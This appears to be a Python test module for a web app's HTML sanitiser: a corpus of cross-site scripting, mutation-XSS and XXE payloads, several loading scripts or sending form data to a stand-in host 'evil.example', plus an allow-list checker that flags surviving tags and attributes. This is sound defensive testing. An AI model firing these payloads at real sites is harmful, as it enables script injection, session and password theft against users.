"""What an attacker sends. Every door that takes text in is walked with these."""

import re
from html.parser import HTMLParser

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/files/1/a.png' onload=alert(1) style='position:fixed'>",
    "<img src=https://evil.example/track.png>",
    "<img src=//evil.example/track.png>",
    "<img src='/files/../accounts/logout/'>",
    "<img src='/files/1/a.png?x=1#y'>",
    "<img srcset='https://evil.example/x 2x' src=/files/1/a.png>",
    "![x](https://evil.example/t.png) ![y](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  JaVa\nScRiPt:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1)) [y](data:text/html,x) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "<a href=/x target=_top ping=//evil.example download onclick=alert(1)>x</a>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style><p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<p hx-get=/me/ hx-trigger=load data-hx-post=/x hx-on:click=alert(1)>x</p>",
    "<div hx-ext=x data-opens=keys data-card id=main class=toast>x</div>",
    "<p id=toasts class='dialog card' data-write>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<td colspan=99999999 rowspan=-1>x</td><ol start=1e9><li>x</li></ol>",
    "<table background='javascript:alert(1)'><tr><td onmouseover=alert(1)>x</table>",
    "<p\x00onclick=alert(1)>x</p><scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "\ud800<script>alert(1)</script>\ufffe",
    "\u202egnp.exe\u202d <b>x</b>",
    "<a href='mailto:x@example.org?subject=<script>alert(1)</script>'>x</a>",
    "`<img src=x onerror=alert(1)>` and ``` <script>alert(1)</script> ```",
    "```html\n<script>alert(1)</script>\n```\n\n    <script>alert(2)</script>",
    "<https://x.example/'onmouseover='alert(1)>",
    '[x](https://x.example/"onmouseover="alert(1) "t\\" onclick=\\"alert(1)")',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ request.user }} {% csrf_token %} ${alert(1)} <%= 1 %>",
]

ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}
HARMLESS = {
    "p", "br", "hr", "h2", "h3", "h4", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "table", "thead", "tbody", "tr", "th", "td", "sub", "sup", "img",
}  # fmt: skip
LEADS = re.compile(r"https?:|mailto:|[^:]*$|[/#?]", re.IGNORECASE)


class Found(HTMLParser):
    """Everything in a piece of HTML that is not harmless; written apart from the sanitiser, on purpose."""

    def __init__(self) -> None:
        super().__init__()
        self.alive: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.alive.append(tag)
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.alive.append(f"{tag} {name}")
            if name == "href" and not LEADS.match((value or "").strip()):
                self.alive.append(f"{tag} {value}")
            if name == "src" and not re.fullmatch(r"/files/\d+/[\w.%-]+", value or ""):
                self.alive.append(f"{tag} {value}")
            if name in {"colspan", "rowspan", "start"} and not re.fullmatch(r"\d{1,3}", value or ""):
                self.alive.append(f"{tag} {name} {value}")

    def handle_comment(self, data: str) -> None:
        self.alive.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.alive.append("declaration")


def alive(html: str) -> list[str]:
    found = Found()
    found.feed(html)
    found.close()
    return found.alive + re.findall("[\x00\u202e\ud800]", html)
